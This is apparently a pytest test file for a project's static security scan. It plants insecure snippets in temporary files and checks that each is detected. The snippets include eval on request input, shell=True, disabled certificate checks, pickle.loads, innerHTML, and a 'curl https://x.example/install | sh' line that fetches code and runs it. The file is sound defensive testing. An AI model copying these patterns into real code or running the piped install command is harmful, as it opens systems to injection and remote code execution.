"""The static scan finds weaknesses that are planted, and none in what we serve."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from config.settings import ROOT
from tests import scan

PLANTED = {
    "eval": ("x.py", "eval(request.args['q'])"),
    "a shell": ("x.py", "subprocess.run(command, shell=True)"),
    "any certificate": ("x.py", "requests.get(url, verify=False)"),
    "escaping off": ("x.py", "Markup(words)"),
    "a template of a text": ("x.py", "flask.render_template_string(words)"),
    "pickle": ("x.py", "pickle.loads(body)"),
    "chance": ("x.py", "token = random.choice(letters)"),
    "HTML of others": ("x.py", "dcc.Markdown(words, dangerously_allow_html=True)"),
    "safe": ("x.html", "<p>{{ words|safe }}</p>"),
    "a handler": ("x.html", '<a onclick="go()">x</a>'),
    "a foreign script": ("x.html", '<script src="https://cdn.example/x.js"></script>'),
    "innerHTML": ("x.js", "node.innerHTML = words"),
    "run what is fetched": ("x.sh", "curl https://x.example/install | sh"),
    "a private key": ("x.py", 'KEY = "-----BEGIN PRIVATE KEY-----"'),
    "a key of ours": ("x.sh", "KEY=reachboard_" + "a" * 43),
}
LOCKED = "flask==3.1.3 \\\n    --hash=sha256:" + "a" * 64 + "\n"


@pytest.mark.parametrize(("name", "line"), PLANTED.values(), ids=PLANTED)
def test_a_planted_weakness_is_found(tmp_path: Path, name: str, line: str) -> None:
    (tmp_path / name).write_text(line + "\n")
    assert list(scan.found(tmp_path / name, name))


def test_nothing_we_serve_has_one() -> None:
    assert scan.everything() == []


@pytest.mark.parametrize(
    "text", ["flask==3.1.3\n", "flask @ https://x.example/flask.whl\n", "flask>=3\n", "-e git+https://x\n"]
)
def test_what_is_not_locked_by_a_hash_is_found(text: str) -> None:
    assert list(scan.unlocked(LOCKED + text, "requirements.txt"))
    assert list(scan.unlocked(LOCKED, "requirements.txt")) == []


def test_the_rules_of_ruff_find_what_bandit_finds(tmp_path: Path) -> None:
    """As `make lint` runs them: in a room, with the settings of the project."""
    (tmp_path / "pyproject.toml").write_text((ROOT / "pyproject.toml").read_text())
    room = tmp_path / "app"
    room.mkdir()
    (room / "planted.py").write_text(
        "import hashlib\nimport subprocess\nimport tempfile\n\n"
        "PASSWORD = 'hush-hush'\nsubprocess.call('ls ' + PASSWORD, shell=True)\n"
        "hashlib.md5(b'x')\ntempfile.mktemp()\nopen('/tmp/x')\n"
    )
    command = [sys.executable, "-m", "ruff", "check", "--no-cache", "--output-format=concise", "app"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 1
    assert {"S105", "S602", "S324", "S306", "S108"} <= set(done.stdout.replace(":", " ").split())
